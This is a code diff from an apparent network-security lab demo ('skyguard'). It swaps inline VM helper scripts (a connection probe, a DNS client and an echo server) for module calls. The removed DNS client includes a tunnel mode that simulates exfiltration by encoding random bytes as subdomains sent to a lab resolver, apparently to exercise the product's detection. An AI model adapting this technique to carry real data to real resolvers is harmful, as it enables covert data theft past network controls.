@@ -29,58 +29,17 @@ from skyguard.lab.addressing import addresses_for_name
 if TYPE_CHECKING:
     from skyguard.lab.lab import Lab
 
-# A tiny client run inside a lab VM: connect (tcp) or send-and-await-echo (udp); prints
-# "ok" or the error. Exit status 0 means the traffic got through.
-_PROBE = r"""
-import socket, sys
-proto, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
-src = sys.argv[4] if len(sys.argv) > 4 else None
-family = socket.AF_INET6 if ":" in host else socket.AF_INET
-kind = socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM
-s = socket.socket(family, kind); s.settimeout(1.5)
-try:
-    if src: s.bind((src, 0))
-    if proto == "tcp":
-        s.connect((host, port))  # the handshake crossed skyguard both ways
-    else:
-        s.sendto(b"demo", (host, port)); s.recvfrom(16)
-    print("ok")
-except OSError as e:
-    print(type(e).__name__); sys.exit(1)
-"""
-
-# A DNS client run inside a lab VM (the VM's resolver is the lab's 192.0.2.53; skyguard answers
-# whatever address is asked). Exit 0 if every query got an answer with records.
-_DNS = r"""
-import base64, os, sys
-from dnslib import DNSRecord
-names = sys.argv[1:]
-if names[0] == "--tunnel":  # exfiltrate random bytes, base32-encoded, as subdomains
-    names = [base64.b32encode(os.urandom(20)).decode().rstrip("=").lower() + "." + names[1]
-             for _ in range(40)]
-for name in names:
-    try:
-        reply = DNSRecord.parse(DNSRecord.question(name).send("192.0.2.53", 53, timeout=2))
-    except Exception as e:
-        print(type(e).__name__); sys.exit(1)
-    if reply.header.rcode != 0 or not reply.rr:
-        print("rcode", reply.header.rcode); sys.exit(1)
-print("ok")
-"""
-
 # TCP echo servers a scenario needs inside lab VMs: (vm, port).
 _LISTENERS = [("dc1", 389), ("vfw1", 830)]
-_LISTEN = r"""
-import socket, sys, threading
-def serve(conn):
-    with conn:
-        while data := conn.recv(4096):
-            conn.sendall(data)
-l = socket.socket(socket.AF_INET6); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-l.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0); l.bind(("::", int(sys.argv[1]))); l.listen(64)
-while True:
-    threading.Thread(target=serve, args=(l.accept()[0],), daemon=True).start()
-"""
+
+
+def vmtool(name: str, *args: str) -> list[str]:
+    """The argv that runs skyguard/vmtools/<name>.py with `args` (inside a lab VM: lab.exec/popen)."""
+    return [sys.executable, "-m", f"skyguard.vmtools.{name}", *args]
+
+
+def echo_server(port: int) -> list[str]:
+    return vmtool("echo", str(port))
 
 
 @dataclass
@@ -97,7 +56,7 @@ class Step:
 
 
 def probe(proto: str, host: str, port: int, src: str | None = None) -> list[str]:
-    return ["python3", "-c", _PROBE, proto, host, str(port)] + ([src] if src else [])
+    return vmtool("probe", proto, host, str(port), *([src] if src else []))
 
 
 PLACEHOLDER = "sg-placeholder-github-7f3a"  # policies/keysystems.yaml: all the VM ever holds
@@ -110,7 +69,7 @@ def curl_with_placeholder(host: str) -> list[str]:
 
 
 def dns_query(*names: str) -> list[str]:
-    return [sys.executable, "-c", _DNS, *names]
+    return vmtool("dns_query", *names)
 
 
 def scenario() -> list[Step]:
@@ -273,7 +232,7 @@ class Demo:
 
     def play(self, steps: list[Step]) -> list[Step]:
         for vm, port in _LISTENERS:
-            self.helpers.append(self.lab.popen(vm, ["python3", "-c", _LISTEN, str(port)],
+            self.helpers.append(self.lab.popen(vm, echo_server(port),
                                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
         time.sleep(0.5)
         for step in steps:
